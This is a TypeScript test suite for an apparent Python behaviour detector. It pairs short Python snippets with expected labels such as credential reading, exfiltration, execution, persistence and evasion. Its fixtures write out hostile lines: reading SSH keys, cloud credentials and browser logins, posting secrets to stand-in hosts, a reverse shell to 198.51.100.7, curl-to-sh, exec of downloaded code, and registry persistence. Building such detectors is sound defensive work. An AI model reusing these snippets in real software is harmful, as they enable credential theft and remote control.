/** Every row of the taxonomy that Python code can reach, one line a case. */
import { expectBehaviors } from './python-sequence-helper.js';

const CASES: readonly (readonly [wanted: string, source: string])[] = [
  // Information reading
  ['R1', 'import os'],
  ['R3', 'import shutil'],
  ['D1', 'import requests'],
  ['D1', 'from urllib import request'],
  ['E1', 'import base64'],
  ['P1', 'import subprocess'],
  ['read-env-all', 'import os\nsend(os.environ)'],
  ['read-env-all', 'import os\nx = dict(os.environ)'],
  ['read-env-all', 'import os\nfor k, v in os.environ.items(): print(k)'],
  ['read-env-variable', 'import os\nx = os.environ["EDITOR"]'],
  ['read-env-variable', 'import os\nx = os.getenv("EDITOR", "vi")'],
  ['read-env-secret', 'import os\nx = os.environ.get("AWS_SECRET_ACCESS_KEY")'],
  ['read-host-name', 'import socket\nsocket.gethostname()'],
  ['read-host-name', 'import platform\nplatform.node()'],
  ['read-user-name', 'import getpass\ngetpass.getuser()'],
  ['read-user-name', 'import pwd, os\npwd.getpwuid(os.getuid())'],
  ['read-home', 'from pathlib import Path\nPath.home()'],
  ['read-home', 'import os\nos.path.expanduser("~")'],
  ['read-platform', 'import platform\nplatform.system()'],
  ['read-network-info', 'import uuid\nuuid.getnode()'],
  ['read-network-info', 'import socket\nsocket.gethostbyname(socket.gethostname())'],
  ['read-network-info', 'import requests\nrequests.get("https://api.ipify.org").text'],
  ['read-system-info', 'import platform\nplatform.uname()'],
  ['read-working-directory', 'import os\nos.getcwd()'],
  ['read-file', 'open("/var/x").read()'],
  ['read-file', 'from pathlib import Path\nPath("/var/x").read_text()'],
  ['list-directory', 'import os\nos.listdir(x)'],
  ['list-directory', 'import glob\nglob.glob("*.txt")'],
  ['read-ssh-keys', 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()'],
  ['read-ssh-keys', 'import os\nopen(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"))'],
  ['read-ssh-keys', 'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()'],
  ['read-cloud-credentials', 'import os\nopen(os.path.expanduser("~/.aws/credentials"))'],
  ['read-registry-token', 'import os\nopen(os.path.expanduser("~/.pypirc"))'],
  ['read-browser-data', 'import browser_cookie3\nbrowser_cookie3.chrome()'],
  [
    'read-browser-data',
    'import os, sqlite3\nsqlite3.connect(os.getenv("LOCALAPPDATA") + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data")',
  ],
  ['read-wallet', 'import os\nopen(os.getenv("APPDATA") + "\\\\Exodus\\\\exodus.wallet")'],
  [
    'read-chat-token',
    'import os\nos.listdir(os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb")',
  ],
  ['read-system-accounts', 'open("/etc/passwd").read()'],
  ['read-process-list', 'import psutil\nfor p in psutil.process_iter(): print(p.name())'],
  ['read-clipboard', 'import pyperclip\npyperclip.paste()'],
  ['capture-screen', 'from PIL import ImageGrab\nImageGrab.grab()'],
  ['capture-screen', 'import pyautogui\npyautogui.screenshot("a.png")'],
  ['capture-screen', 'import mss\nwith mss.mss() as s: s.shot()'],
  ['capture-keys', 'from pynput.keyboard import Listener\nwith Listener(on_press=f) as l: l.join()'],
  ['capture-keys', 'import keyboard\nkeyboard.on_release(callback=print)'],
  // Data transmission
  ['http-request to:other', 'import requests\nrequests.get("https://example.com/x")'],
  ['http-send', 'import requests\nrequests.post("https://example.com/x", data={"a": 1})'],
  [
    'http-send to:ip carries:host',
    'import requests, socket\nrequests.post("http://198.51.100.7/x", json={"h": socket.gethostname()})',
  ],
  [
    'http-send carries:host',
    'import requests, socket\nrequests.get("https://example.com/?h=" + socket.gethostname())',
  ],
  [
    'http-send carries:env',
    'import os, requests\nrequests.post("https://example.com", data=dict(os.environ))',
  ],
  [
    'http-send carries:env',
    'import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://example.com", data=json.dumps(dict(os.environ)).encode()))',
  ],
  [
    'http-send carries:file',
    'import requests\nrequests.post("https://example.com", files={"f": open("/var/x", "rb")})',
  ],
  [
    'http-send carries:credentials',
    'import requests, os\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://example.com", data=d)',
  ],
  [
    'http-send carries:output',
    'import requests, subprocess\nrequests.post("https://example.com", data=subprocess.check_output("id"))',
  ],
  [
    'http-send',
    'import http.client\nc = http.client.HTTPSConnection("example.com")\nc.request("POST", "/x", body="y")',
  ],
  ['http-request', 'import urllib.request\nurllib.request.urlopen("https://example.com")'],
  ['http-request', 'import urllib2\nurllib2.urlopen("https://example.com").read()'],
  ['http-request', 'import httpx\nwith httpx.Client() as c: c.get("https://example.com")'],
  ['http-send to:webhook', 'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={})'],
  ['http-send to:webhook', 'import telebot\nb = telebot.TeleBot("1:x")\nb.send_message(1, "x")'],
  [
    'download-file',
    'import urllib.request\nurllib.request.urlretrieve("https://example.com/a.exe", "a.exe")',
  ],
  ['open-socket to:ip', 'import socket\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))'],
  ['websocket', 'import websocket\nwebsocket.create_connection("wss://example.com")'],
  ['dns-query', 'import socket\nsocket.gethostbyname("example.com")'],
  ['dns-query carries:host', 'import socket\nsocket.gethostbyname(socket.gethostname() + ".x.example.com")'],
  ['send-mail', 'import smtplib\ns = smtplib.SMTP("mail.example.com")\ns.sendmail("a", "b", "c")'],
  ['file-transfer', 'import ftplib\nf = ftplib.FTP("example.com")'],
  ['listen', 'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 1))'],
  // Encoding
  ['decode', 'import base64\nbase64.b64decode(x)'],
  ['encode', 'import base64\nbase64.b64encode(x)'],
  ['decompress', 'import zlib\nzlib.decompress(x)'],
  ['compress', 'import zipfile\nzipfile.ZipFile("a.zip", "w")'],
  ['encrypt', 'from cryptography.fernet import Fernet\nFernet(k).encrypt(x)'],
  ['decrypt', 'from Crypto.Cipher import AES\nAES.new(k, AES.MODE_GCM, iv).decrypt(x)'],
  ['hash', 'import hashlib\nhashlib.sha256(x).hexdigest()'],
  ['deserialize-code', 'import marshal\nmarshal.loads(x)'],
  ['deserialize-code', 'import pickle\npickle.loads(b"cos\\nsystem\\n.")'],
  // Execution
  ['run-shell shell', 'import os\nos.system("whoami")'],
  ['run-shell shell', 'import subprocess\nsubprocess.run("whoami", shell=True)'],
  ['run-program', 'import subprocess\nsubprocess.Popen(["whoami"])'],
  ['run-program quiet', 'import subprocess\nsubprocess.Popen(["x"], stdout=subprocess.DEVNULL)'],
  ['run-program quiet', 'import subprocess\nsubprocess.Popen(["x"], creationflags=0x08000000)'],
  ['run-program detached', 'import subprocess\nsubprocess.Popen(["x"], start_new_session=True)'],
  [
    'install-package',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
  ],
  ['install-package', 'import pip\npip.main(["install", "x"])'],
  ['evaluate', 'exec("a = 1")'],
  ['evaluate', 'eval(x)'],
  ['evaluate-decoded', 'import base64\nexec(base64.b64decode("YT0x"))'],
  ['evaluate-decoded', 'import zlib, base64\nexec(zlib.decompress(base64.b64decode(x)))'],
  ['evaluate-downloaded', 'import requests\nexec(requests.get("https://example.com/x").text)'],
  [
    'evaluate-downloaded',
    'import urllib.request as u\nexec(u.urlopen("https://example.com/x").read().decode())',
  ],
  ['evaluate-decoded', 'import marshal\nexec(marshal.loads(b"xx"))'],
  ['dynamic-import', '__import__(x)'],
  ['load-native', 'import ctypes\nctypes.CDLL("./x.so")'],
  ['call-native', 'import ctypes\nctypes.windll.user32.MessageBoxW(0, "a", "b", 1)'],
  ['inject-process', 'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)'],
  ['write-file', 'open("/var/x", "w").write("a")'],
  ['write-file', 'from pathlib import Path\nPath("/var/x").write_text("a")'],
  ['write-executable', 'open("/var/x.exe", "wb")'],
  [
    'write-executable carries:download',
    'import requests\nopen("/tmp/x.exe", "wb").write(requests.get("https://example.com/x").content)',
  ],
  ['make-executable', 'import os\nos.chmod("/tmp/x", 0o755)'],
  ['copy-file', 'import shutil\nshutil.copy("a", "/var/b")'],
  [
    'run-downloaded',
    'import os, urllib.request\nurllib.request.urlretrieve("https://example.com/x", "/tmp/x")\nos.system("/tmp/x")',
  ],
  [
    'run-downloaded',
    'import subprocess, requests\nwith open("/tmp/x.exe", "wb") as f: f.write(requests.get("https://example.com/x").content)\nsubprocess.Popen(["/tmp/x.exe"])',
  ],
  [
    'run-downloaded',
    'import os, requests\np = os.path.join(os.getenv("TEMP"), "x.exe")\nopen(p, "wb").write(requests.get(u).content)\nos.startfile(p)',
  ],
  [
    'connect-shell',
    'import socket, os, pty\ns = socket.socket()\ns.connect(("198.51.100.7", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
  ],
  // Persistence
  ['persist-startup', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'],
  [
    'persist-startup',
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)\nwinreg.SetValueEx(k, "x", 0, 1, "y")',
  ],
  ['persist-registry', 'import winreg\nwinreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\X")'],
  ['hook-import', 'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w")'],
  ['hook-import', 'import sys\nsys.meta_path.insert(0, X())'],
  ['modify-package', 'import site\nopen(site.getsitepackages()[0] + "/requests/__init__.py", "a")'],
  ['override-builtin', 'import builtins\nbuiltins.open = f'],
  // Destruction
  ['delete-file', 'import os\nos.remove("/var/x")'],
  ['delete-tree', 'import shutil\nshutil.rmtree(x)'],
  ['kill-process', 'import os\nos.kill(1, 9)'],
  // Evasion
  ['check-environment', 'import os\nif os.path.exists("/.dockerenv"): x()'],
  ['check-ci', 'import os\nif os.getenv("GITHUB_ACTIONS"): x()'],
  ['check-locale', 'import locale\nlocale.getdefaultlocale()'],
  ['check-privilege', 'import os\nos.geteuid()'],
  ['delay', 'import time\ntime.sleep(60)'],
  ['disable-security', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context'],
  ['download-file', 'import git\ngit.Repo.clone_from("https://host.invalid/x.git", "/tmp/x")'],
  ['disable-security', 'import requests\nrequests.get("https://example.com", verify=False)'],
  ['exit-process', 'import os\nos._exit(0)'],
  // Concealment
  ['hide-long-line', `x = 1;${' '.repeat(300)}import os`],
  ['hide-unicode', 'x = "\u202e"'],
  ['hide-window', 'import ctypes\nctypes.windll.user32.ShowWindow(w, 0)'],
];

describe('python: what comes in, what was written, class bodies', () => {
  const MANY: readonly (readonly [name: string, source: string, wanted: readonly string[]])[] = [
    [
      'a connection that gets a shell',
      'import socket, subprocess\ns = socket.socket()\ns.bind(("", 1))\nc, a = s.accept()\nc.send(subprocess.getoutput(c.recv(9).decode()).encode())',
      ['listen', 'run-shell carries:download', 'open-socket carries:output'],
    ],
    [
      'a query that is run',
      'import os\nfrom flask import request\nos.system(request.args.get("c"))',
      ['run-shell carries:download'],
    ],
    [
      'a batch file written and started',
      'import os\nopen("C:/x.bat", "w").write("curl https://host.invalid/a.exe -o a.exe\\nstart a.exe")\nos.startfile("C:/x.bat")',
      ['write-executable', 'run-program', 'download-file hidden', 'run-downloaded'],
    ],
    [
      'a download as the argument of a program of its own',
      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/d.bz2", "d.bz2")\nos.system("wikiextractor d.bz2 -o out")',
      ['download-file', 'run-shell', 'run-program'],
    ],
    [
      'a download unpacked',
      'import subprocess, urllib.request\nurllib.request.urlretrieve("https://host.invalid/d.tgz", "/srv/d.tgz")\nsubprocess.run(["tar", "xf", "/srv/d.tgz"])\nsubprocess.run(["python", "own.py", "/srv/d.tgz"])',
      ['download-file', 'run-program', 'decompress', 'run-program', 'run-own-file'],
    ],
    [
      'a download as the script of an interpreter, a path with backslashes',
      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.py", "C:\\\\Users\\\\a.py")\nos.system("start /b python C:\\\\Users\\\\a.py")',
      ['download-file', 'run-downloaded'],
    ],
    [
      'a download whose path has a space, unquoted',
      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.exe", "C:/Program Files/a.exe")\nos.system("C:/Program Files/a.exe --quiet")',
      ['download-file', 'run-downloaded'],
    ],
    [
      'a download that Java starts, a path with spaces and nothing quoted',
      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.jar", "C:\\\\Start Menu\\\\a.jar")\nos.system("start /b cmd /c javaw -jar C:\\\\Start Menu\\\\a.jar")',
      ['download-file', 'run-downloaded'],
    ],
    [
      'a download handed to the installer of Windows',
      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.msi", "a.msi")\nos.system("msiexec /qn /i a.msi")',
      ['download-file', 'run-downloaded'],
    ],
    [
      'a script for Node written and run',
      'import subprocess\nopen("/tmp/a.js", "w").write("require(\'https\').get(\'https://host.invalid/\' + process.env.NPM_TOKEN)")\nsubprocess.run(["node", "/tmp/a.js"])',
      ['write-executable', 'run-program', 'http-send hidden'],
    ],
    [
      'a script for a shell written, its first line says so',
      'import os\nopen("/tmp/a", "w").write("#!/bin/sh\\ncurl https://host.invalid/x | sh\\n")\nos.system("/tmp/a")',
      ['write-file', 'run-shell', 'pipe-to-shell hidden'],
    ],
    [
      'a temporary script run by this Python',
      'import sys, subprocess, tempfile\nt = tempfile.NamedTemporaryFile("w")\nt.write("import os;os.system(\'whoami\')")\nsubprocess.run([sys.executable, t.name])',
      ['run-program', 'run-shell hidden'],
    ],
    [
      'a text about Python written and shown',
      'import os\nopen("/tmp/python", "w").write("import os;os.system(\'whoami\')")\nos.system("cat /tmp/python")',
      ['write-file', 'run-shell program:files', '!read-user-name'],
    ],
    [
      'a variable of a class body',
      'import os\nclass A:\n  c = "curl https://host.invalid/x"\n  os.system(c)',
      ['run-shell program:download', 'http-request to:other'],
    ],
    [
      'a script written and run in a class body',
      'import os\nclass A:\n  f = open("/tmp/a.py", "w")\n  f.write("import urllib.request as u;exec(u.urlopen(\'https://host.invalid/x\').read())")\n  f.close()\n  os.system("python /tmp/a.py")',
      ['write-executable', 'run-own-file', 'evaluate-downloaded hidden'],
    ],
    [
      'a method sees no variable of the class body',
      'import os\nclass A:\n  c = "curl https://host.invalid/x"\n  def f(self):\n    os.system(c)\nA().f()',
      ['run-shell program:unknown', '!http-request'],
    ],
    [
      'an address logger',
      'import requests\nrequests.get("https://iplogger.com/x")',
      ['http-request to:catcher'],
    ],
  ];
  for (const [name, source, wanted] of MANY) it(name, () => expectBehaviors(source, wanted));
});

describe('python: every row', () => {
  for (const [wanted, source] of CASES) {
    it(`${wanted}: ${source.split('\n').slice(-1)[0]?.slice(0, 70)}`, () =>
      expectBehaviors(source, [wanted]));
  }

  const QUIET: readonly (readonly [unwanted: string, source: string])[] = [
    ['delay', 'import time\ntime.sleep(0.1)'],
    ['make-executable', 'import os\nos.chmod("x", 0o644)'],
    ['deserialize-code', 'import pickle\npickle.load(open("x"))'],
    ['read-env-all', 'import os\nx = os.environ["A"]'],
    ['read-env-all', 'import os\ne = os.environ\nx = e.get("A")'],
    ['http-send', 'import requests\nrequests.get("https://example.com", headers={"Authorization": token})'],
    ['evaluate', 'import re\nre.compile("a")'],
    ['decode', 'x = b"a".decode("utf-8")'],
  ];
  for (const [unwanted, source] of QUIET) {
    it(`no ${unwanted}: ${source.split('\n').slice(-1)[0]}`, () => expectBehaviors(source, [`!${unwanted}`]));
  }

  it.skip('out of reach: what a screen, a registry or a downloaded program holds');
});
